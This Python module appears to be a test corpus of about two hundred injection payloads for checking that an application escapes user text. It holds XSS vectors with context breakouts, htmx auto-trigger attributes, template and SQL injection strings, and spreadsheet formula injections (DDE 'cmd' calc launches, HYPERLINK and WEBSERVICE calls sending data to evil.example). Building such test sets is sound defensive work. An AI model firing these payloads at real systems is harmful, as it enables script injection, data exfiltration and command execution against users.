"""Two hundred texts that would be a script, a request or a formula where somebody forgot to escape one.

Each calls alert(4711) or asks evil.example, so that a browser tells if one of them ever ran.
"""

from __future__ import annotations

_RUN = "alert(4711)"
_LEAVE = "https://evil.example/x"

# How a text gets out of where it stands: text, attributes of both quotes, elements that take no markup, a comment.
_WAYS_OUT = ("", '">', "'>", "</textarea></title></style></script>", "--><!--a-->")
_VECTORS = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<a href=javascript:{_RUN} autofocus onfocus={_RUN}>x</a>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<body onload={_RUN}>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f"<form action={_LEAVE}><button autofocus formaction={_LEAVE}>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={_LEAVE}'>",
    f"<base href={_LEAVE}/>",
    f"<link rel=stylesheet href={_LEAVE}.css>",
    f"<img src={_LEAVE}.png>",
    f"<object data={_LEAVE}></object>",
    f"<embed src={_LEAVE}>",
    f"<style>@import '{_LEAVE}';</style>",
    f'<div style="background:url({_LEAVE})">x</div>',
    f"<script src={_LEAVE}.js></script>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    f"<div hx-get={_LEAVE} hx-trigger=load>x</div>",
    "<div hx-post=/sign-out hx-trigger=load>x</div>",
    f"<div hx-on:htmx:load={_RUN}>x</div>",
    f"<div hx-on::load='{_RUN}' hx-vals='js:{{a:{_RUN}}}' hx-trigger='load[{_RUN}]'>x</div>",
    "<htmx-partial hx-target=body>x</htmx-partial>",
    f"<button data-hotkey=a data-copy='{_RUN}' popovertarget=rail>x</button>",
    f"onmouseover={_RUN} autofocus onfocus={_RUN} x=",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<SCRIPT\t>{_RUN}</SCRIPT\t>",
    f"\u202e<img src=x onerror={_RUN}>\u202c",
    f"<img src=`x`onerror={_RUN}>",
    f"]]><script>{_RUN}</script>",
    f"'; DROP TABLE ops.person; --<script>{_RUN}</script>",
)
MARKUP = tuple(way + vector for vector in _VECTORS for way in _WAYS_OUT)

FORMULAS = (
    "=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"x")', "=IMPORTXML(A1,A2)", "+1+1", "-1+1",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "=", "+", "-", "@", '=WEBSERVICE("https://evil.example/")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "-2+3+cmd|' /C calc'!A0", "=1+1\";\"=2+2", "+A1\n=A2", "@A1,=A2",
)  # fmt: skip
PAYLOADS = (*MARKUP, *FORMULAS)
assert len(PAYLOADS) >= 200
